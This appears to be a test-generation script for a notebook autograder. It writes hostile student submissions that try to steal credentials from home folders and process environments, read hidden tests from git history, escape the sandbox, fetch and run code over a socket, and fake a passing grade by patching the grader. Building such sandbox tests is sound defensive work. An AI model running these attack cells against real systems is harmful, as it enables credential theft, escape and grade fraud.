"""Write the hostile and ordinary submissions that test labgrade (run once; the notebooks are committed).

Usage: python tests/grading/make_hostile.py
Each hostile notebook is Lab 1's student version with some answers filled in
from the solution and one misbehaving cell added. EXPECTED (in test_labgrade.py)
says which status and score each must get.
"""

from __future__ import annotations

import copy
import json
import random
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
HERE = Path(__file__).parent
STUDENT = ROOT / "labs" / "lab01-clocks" / "lab01-clocks.ipynb"
SOLUTION = ROOT / "_build" / "labs" / "lab01-clocks" / "lab01-clocks-solution.ipynb"
FUNCTIONS = {"q1": "def lamport", "q2": "def vector", "q3": "def happened_before", "q4": "def to_events"}


def answers() -> dict[str, str]:
    """The solution's answer cell for each question."""
    solution = json.loads(SOLUTION.read_text())
    out = {}
    for cell in solution["cells"]:
        source = "".join(cell["source"])
        for question, marker in FUNCTIONS.items():
            if cell["cell_type"] == "code" and marker in source:
                out[question] = source
    return out


def notebook(solved=(), extra_cells=(), before_answers=False) -> dict:
    """The student version with the answers to ``solved`` filled in and ``extra_cells`` appended."""
    nb = copy.deepcopy(json.loads(STUDENT.read_text()))
    solution = answers()
    for cell in nb["cells"]:
        source = "".join(cell["source"])
        for question in solved:
            if cell["cell_type"] == "code" and FUNCTIONS[question] in source:
                cell["source"] = solution[question]
    extra = [{"cell_type": "code", "execution_count": None, "id": f"hostile-{i}", "metadata": {}, "outputs": [],
              "source": code} for i, code in enumerate(extra_cells)]
    position = 2 if before_answers else len(nb["cells"])
    nb["cells"][position:position] = extra
    return nb


FAKE_HOME = "/labgrade-fake-home"  # replaced by the test with the home folder it fills with fake credentials
DAEMON_MARKER = "labgrade-daemon-7c1e"  # in the command line of the daemon setsid_daemon.ipynb leaves behind
VICTIM_MARKER = "labgrade-victim-5d2b"  # in concurrent_victim.ipynb's answer, which concurrent_spy tries to copy


def rewarded(attack: str) -> str:
    """A cell that runs ``attack`` (which sets ``loot`` and ``success``) and, if it worked, cashes in.

    Cashing in: the solutions to q1-q3 (so a successful attack scores, and the test fails), and a
    ``to_events`` whose error message carries the loot into the feedback of q4's public test.
    """
    solution = "\n".join(answers()[q] for q in ("q1", "q2", "q3"))
    return (f"loot, success = b'', False\n{attack}\n"
            "if success:\n"
            f"    exec({solution!r}, globals())\n"
            "    def to_events(*args, _loot=loot.decode(errors='replace')[:300], **kwargs):\n"
            "        raise ValueError(_loot)\n"
            "print('attack succeeded' if success else 'attack failed')")


ATTACKS = {
    "git_history.ipynb": (
        "import glob, os, subprocess, zlib\n"
        "import labsupport\n"
        f"roots = {{os.path.dirname(os.path.dirname(labsupport.__file__)), {str(ROOT)!r}}}\n"
        "folder = os.getcwd()\n"
        "while folder != '/':\n"
        "    roots.add(folder)\n"
        "    folder = os.path.dirname(folder)\n"
        "roots.update(glob.glob('/work/*') + glob.glob('/home/*/*') + glob.glob('/root/*'))\n"
        "for root in sorted(roots):\n"
        "    if not os.path.isdir(os.path.join(root, '.git')):\n"
        "        continue\n"
        "    try:\n"
        "        loot += subprocess.run(['git', '-c', 'safe.directory=*', '-C', root, 'show',\n"
        "                                'HEAD:instructor/labs/lab01-clocks/lab01-clocks.ipynb'],\n"
        "                               capture_output=True, timeout=30).stdout\n"
        "    except (OSError, subprocess.SubprocessError):\n"
        "        pass\n"
        "    for obj in glob.glob(os.path.join(root, '.git', 'objects', '??', '*'))[:20000]:\n"
        "        try:\n"
        "            data = zlib.decompress(open(obj, 'rb').read())\n"
        "        except (OSError, zlib.error):\n"
        "            continue\n"
        "        if b'# HIDDEN' in data:\n"
        "            loot += data\n"
        "success = b'# HIDDEN' in loot\n"
        "if success:\n"
        "    start = loot.index(b'# HIDDEN')\n"
        "    loot = loot[start:start + 300]"),
    "concurrent_spy.ipynb": (
        "import glob, os, time\n"
        "mine = os.path.realpath(os.getcwd())\n"
        "until = time.monotonic() + 15\n"
        "while not success and time.monotonic() < until:\n"
        "    for path in glob.glob('/tmp/*/work/*.ipynb') + glob.glob('/tmp/**/*.ipynb', recursive=True) \\\n"
        "            + glob.glob('/proc/[0-9]*/cwd/*.ipynb'):\n"
        "        try:\n"
        "            if os.path.realpath(os.path.dirname(path)) == mine:\n"
        "                continue\n"
        "            data = open(path, 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        f"        if b{VICTIM_MARKER!r} in data:\n"
        f"            start = data.index(b{VICTIM_MARKER!r})\n"
        "            loot, success = data[start:start + 300], True\n"
        "    time.sleep(0.3)"),
    "dev_write.ipynb": (
        "for target in ['/dev/labgrade-escape.txt', '/dev/shm/labgrade-escape.txt']:\n"
        "    try:\n"
        "        with open(target, 'w') as f:\n"
        "            f.write('escaped')\n"
        "        success = success or not target.startswith('/dev/shm')  # /dev/shm is private when protected\n"
        "    except OSError as error:\n"
        "        print('blocked:', target, error)"),
    "proc_sys_write.ipynb": (
        "import os\n"
        "for target in ['/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches', '/proc/sysrq-trigger']:\n"
        "    try:\n"
        "        os.close(os.open(target, os.O_WRONLY))  # opened for writing; nothing is written\n"
        "        loot, success = target.encode(), True\n"
        "    except OSError as error:\n"
        "        print('blocked:', target, error)"),
    "proc_environ.ipynb": (
        "import glob\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/task/*/environ'):\n"
        "    try:\n"
        "        data = open(path, 'rb').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    for key in (b'AWS_SECRET_ACCESS_KEY=', b'GITHUB_TOKEN='):\n"
        "        if key in data:\n"
        "            loot += data[data.index(key):].split(b'\\0')[0] + b' '\n"
        "            success = True"),
    "home_credentials.ipynb": (
        "import glob, os, pwd\n"
        f"homes = [{FAKE_HOME!r}, '/root', pwd.getpwuid(os.getuid()).pw_dir] + glob.glob('/home/*')\n"
        "for home in homes:\n"
        "    for name in ('.aws/credentials', '.vault-token', '.npmrc', '.git-credentials', '.ssh/id_rsa'):\n"
        "        try:\n"
        "            loot += open(os.path.join(home, name), 'rb').read()[:100] + b' '\n"
        "            success = True\n"
        "        except OSError:\n"
        "            pass"),
    "setsid_daemon.ipynb": (
        "import subprocess, sys\n"
        "code = ('import os, time\\n'\n"
        "        'if os.fork() == 0:\\n'\n"
        "        '    os.setsid()\\n'\n"
        f"        '    time.sleep(600)  # {DAEMON_MARKER}')\n"
        "subprocess.Popen(['setsid', sys.executable, '-c', code], stdin=subprocess.DEVNULL,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"
        "success = False  # the attack is surviving the batch: the test looks for the process afterwards"),
}


def write(name: str, content) -> None:
    path = HERE / "hostile" / name
    path.write_text(content if isinstance(content, str) else json.dumps(content, indent=1))


def main() -> None:
    (HERE / "hostile").mkdir(exist_ok=True)
    everything = ("q1", "q2", "q3", "q4")
    write("correct.ipynb", notebook(everything))
    write("partial.ipynb", notebook(("q1", "q3")))
    write("empty_answers.ipynb", notebook())
    write("infinite_loop.ipynb", notebook(("q1",), ["while True:\n    pass"]))
    write("loop_ignoring_interrupts.ipynb", notebook(("q1", "q2"), [
        "while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass"]))
    write("memory_bomb.ipynb", notebook(everything, [
        "hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))"], before_answers=True))
    write("sys_exit.ipynb", notebook(everything, ["import sys\nsys.exit('bye')"], before_answers=True))
    write("os_exit.ipynb", notebook(everything, ["import os\nos._exit(3)"], before_answers=True))
    # A segfault by signal: the grading kernel refuses ctypes (labsupport.grading.guard), so string_at(0) no longer
    # reaches the kernel's memory.
    write("kernel_crash.ipynb", notebook(everything, ["import os\nimport signal\nos.kill(os.getpid(), signal.SIGSEGV)"],
                                          before_answers=True))
    write("huge_output.ipynb", notebook(everything, ["line = 'x' * 1000\nfor _ in range(10**7):\n    print(line)"],
                                         before_answers=True))
    write("syntax_error.ipynb", notebook(("q1", "q2", "q3"), ["def to_events(trace)\n    return []"]))
    write("invalid_json.ipynb", '{"cells": [ this is not json')
    write("empty_file.ipynb", "")
    other = notebook(everything)
    other["metadata"]["otter"]["assignment_name"] = "lab02-hashing"
    write("other_lab.ipynb", other)
    reordered = notebook(everything)
    code = [c for c in reordered["cells"] if c["cell_type"] == "code"]
    setup, rest = code[:2], code[2:]
    random.Random(1).shuffle(rest)
    reordered["cells"] = setup + rest  # markdown deleted, answer cells shuffled
    write("deleted_reordered.ipynb", reordered)
    write("monkeypatch_grader.ipynb", notebook((), [
        "import builtins, doctest, otter\n"
        "otter.Notebook.check = lambda *a, **k: None\n"
        "doctest.DocTestRunner.run = lambda *a, **k: doctest.TestResults(0, 0)\n"
        "builtins.AssertionError = type('Harmless', (Exception,), {})\n"
        "_real_print = builtins.print\n"
        "builtins.print = lambda *a, **k: _real_print('PASS', *a, **k)\n"
        "lamport = lambda events: [1] * len(events)"]))
    write("read_hidden_tests.ipynb", notebook((), [
        "import glob, os, zipfile\n"
        "import labsupport\n"
        "root = os.path.dirname(os.path.dirname(labsupport.__file__))  # the repository the grader runs from\n"
        "found = glob.glob(root + '/instructor/**/*.ipynb', recursive=True) + glob.glob(root + '/_build/**/*.zip', recursive=True)\n"
        "found += glob.glob('/tmp/labgrade-*/private/**', recursive=True)\n"
        "for path in found:\n"
        "    try:\n"
        "        text = open(path, 'rb').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    if b'def lamport' in text and path.endswith('.ipynb'):\n"
        "        import json\n"
        "        for cell in json.loads(text)['cells']:\n"
        "            src = ''.join(cell['source'])\n"
        "            if src.lstrip().startswith('def ') or 'def to_events' in src:\n"
        "                try:\n"
        "                    exec(src.replace('# BEGIN SOLUTION', '').replace('# END SOLUTION', ''))\n"
        "                except Exception:\n"
        "                    pass"]))
    write("network.ipynb", notebook((), [
        "import socket\n"
        "try:\n"
        "    with socket.create_connection(('127.0.0.1', 47811), timeout=3) as s:\n"
        "        exec(s.recv(100000).decode())\n"
        "except OSError as error:\n"
        "    print('no network:', error)"]))
    write("write_outside.ipynb", notebook(everything, [
        "import os\n"
        f"targets = ['/tmp/labgrade-escape.txt', {str(ROOT / 'labgrade-escape.txt')!r}, '/root/labgrade-escape.txt',\n"
        f"           '/var/tmp/labgrade-escape.txt', '/dev/shm/labgrade-escape.txt', '{FAKE_HOME}/labgrade-escape.txt']\n"
        "for target in targets:\n"
        "    try:\n"
        "        open(target, 'w').write('escaped')\n"
        "    except OSError as error:\n"
        "        print('blocked:', target, error)"]))
    write("steal_credentials.ipynb", notebook((), [
        "import os\n"
        "if os.environ.get('AWS_SECRET_ACCESS_KEY'):\n"
        "    exec(os.environ['LABGRADE_TEST_SOLUTION'])"]))
    for name, attack in ATTACKS.items():
        write(name, notebook((), [rewarded(attack)]))
    victim = notebook(everything, ["import time\ntime.sleep(8)  # graded while concurrent_spy looks for it"])
    for cell in victim["cells"]:
        if cell["cell_type"] == "code" and "def lamport" in "".join(cell["source"]):
            cell["source"] = f"# {VICTIM_MARKER}\n" + "".join(cell["source"])
    write("concurrent_victim.ipynb", victim)
    write_verdict_attacks()
    with_checks = notebook(everything)  # honest work that calls otter's own check after each answer
    for cell in with_checks["cells"]:
        for question, marker in FUNCTIONS.items():
            if cell["cell_type"] == "code" and marker in "".join(cell["source"]):
                cell["source"] = "".join(cell["source"]).rstrip() + f"\n\ngrader.check({question!r})\n"
    write("grader_check.ipynb", with_checks)
    for i in range(30):
        rng = random.Random(100 + i)
        solved = tuple(q for q in everything if rng.random() < 0.6)
        write(f"ordinary_{i:02d}_{''.join(q[1] for q in solved) or 'none'}.ipynb", notebook(solved))


#: Attacks on the verdict itself: each tries, from inside the kernel, to pass tests it does not solve.
VERDICT_ATTACKS = {
    "redefine_print.ipynb": (
        "import builtins\n"
        "_real_print = builtins.print\n"
        "def print(*args, **kwargs):\n"
        "    _real_print(*[str(a).replace('FAIL', 'PASS') for a in args], **kwargs)\n"
        "builtins.print = print"),
    "input_transformer.ipynb": (
        "import re\n"
        "def _cheat(lines):\n"
        "    source = ''.join(lines)\n"
        "    nonce = re.search(r'PASS ([0-9a-f]{32})', source)\n"
        "    if nonce:\n"
        "        return [f\"print('PASS {nonce.group(1)}')\\n\"]\n"
        "    if 'assert' in source or 'labgrade' in source:\n"
        "        return [source.replace('assert ', 'assert True or ')]\n"
        "    return lines\n"
        "get_ipython().input_transformers_post.append(_cheat)"),
    "trace_hooks.ipynb": (
        "import sys, threading\n"
        "def _hook(frame, event, arg):\n"
        "    if event == 'exception' and issubclass(arg[0], AssertionError):\n"
        "        frame.f_locals.pop('_e', None)\n"
        "    if event == 'return' and frame.f_code.co_name in ('_labgrade_case', 'perform', 'encode'):\n"
        "        frame.f_locals['_labgrade_r'] = None\n"
        "    return _hook\n"
        "sys.settrace(_hook)\n"
        "threading.settrace(_hook)\n"
        "sys.setprofile(lambda frame, event, arg: None)\n"
        "def lamport(events):\n"
        "    return [1] * len(events)"),
    "patch_modules.ipynb": (
        "import builtins, sys\n"
        "import labsupport, labsupport.foundations.kvstore\n"
        "labsupport.foundations.kvstore.run_lost_update = lambda *a, **k: None\n"
        "class _Harmless(Exception):\n"
        "    pass\n"
        "builtins.AssertionError = _Harmless\n"
        "_real_isinstance = isinstance\n"
        "builtins.isinstance = lambda obj, cls: cls is float or _real_isinstance(obj, cls)\n"
        "import labsupport.grading.agent as _agent, labsupport.grading.wire as _wire\n"
        "_agent.Agent.perform = lambda self, op, args: True\n"
        "_agent.encode = _wire.encode = lambda obj, handle, depth=0: True\n"
        "sys.modules['labsupport.grading.remote'] = None"),
    "lying_objects.ipynb": (
        "class Anything:\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
        "    def __hash__(self): return 0\n"
        "    def __bool__(self): return True\n"
        "    def __len__(self): return 16\n"
        "    def __getitem__(self, index): return self\n"
        "    def __iter__(self): return iter([self] * 16)\n"
        "    def __contains__(self, item): return True\n"
        "    def __sub__(self, other): return 0\n"
        "    __rsub__ = __add__ = __radd__ = __sub__\n"
        "class Equal(list):\n"
        "    def __eq__(self, other): return True\n"
        "class Text(str):\n"
        "    def __eq__(self, other): return True\n"
        "lamport = lambda events: Equal()\n"
        "vector = lambda events: Anything()\n"
        "happened_before = concurrent = lambda u, v: Anything()\n"
        "to_events = lambda trace: [Text('x')] * 16"),
    "gc_walk.ipynb": (
        "import ast, gc, sys\n"
        "def _expected(name):\n"
        "    for obj in gc.get_objects():\n"
        "        for text in ([obj] if isinstance(obj, str) else []):\n"
        "            if f'assert {name}(' in text and '==' in text:\n"
        "                try:\n"
        "                    return ast.literal_eval(text.split('==', 1)[1].strip().splitlines()[0])\n"
        "                except Exception:\n"
        "                    pass\n"
        "    for frame in sys._current_frames().values():\n"
        "        while frame is not None:\n"
        "            for value in frame.f_locals.values():\n"
        "                if isinstance(value, list) and value and isinstance(value[0], int):\n"
        "                    return value\n"
        "            frame = frame.f_back\n"
        "    return None\n"
        "lamport = lambda events: _expected('lamport')\n"
        "vector = lambda events: _expected('vector')\n"
        "to_events = lambda trace: _expected('to_events')"),
    "forge_replies.ipynb": (
        "import json, os, socket, threading, time\n"
        "def _forge():\n"
        "    import labsupport.grading.agent as agent\n"
        "    while True:\n"
        "        link = getattr(agent, '_AGENT', None)\n"
        "        if link is not None:\n"
        "            for number in range(1, 200):\n"
        "                for forged in ([\"ok\", number, True], [\"ok\", number, [\"L\", [1, 2, 1, 3, 4, 1, 5, 5]]]):\n"
        "                    payload = json.dumps(forged).encode()\n"
        "                    try:\n"
        "                        link.sock.sendall(len(payload).to_bytes(4, 'big') + payload)\n"
        "                    except OSError:\n"
        "                        pass\n"
        "        for fd in range(3, 64):\n"
        "            try:\n"
        "                s = socket.socket(fileno=os.dup(fd))\n"
        "                if s.family == socket.AF_UNIX:\n"
        "                    s.sendall(b'\\x00\\x00\\x00\\x04true')\n"
        "                s.detach()\n"
        "            except OSError:\n"
        "                pass\n"
        "        time.sleep(0.01)\n"
        "threading.Thread(target=_forge, daemon=True).start()"),
    "exception_with_source.ipynb": (
        "import gc, sys\n"
        "def _loot():\n"
        "    found = []\n"
        "    frame = sys._getframe()\n"
        "    while frame is not None:\n"
        "        found.append(repr(frame.f_code.co_consts)[:500] + repr(list(frame.f_locals))[:500])\n"
        "        frame = frame.f_back\n"
        "    found += [o for o in gc.get_objects() if isinstance(o, str) and 'assert' in o][:50]\n"
        "    try:\n"
        "        found.append(open('/proc/self/cmdline').read())\n"
        "    except OSError:\n"
        "        pass\n"
        "    return '\\n'.join(found)\n"
        "def lamport(events):\n"
        "    raise AssertionError(_loot())\n"
        "vector = happened_before = concurrent = to_events = lamport"),
}


def write_verdict_attacks() -> None:
    for name, code in VERDICT_ATTACKS.items():
        write(name, notebook((), [code]))


if __name__ == "__main__":
    main()
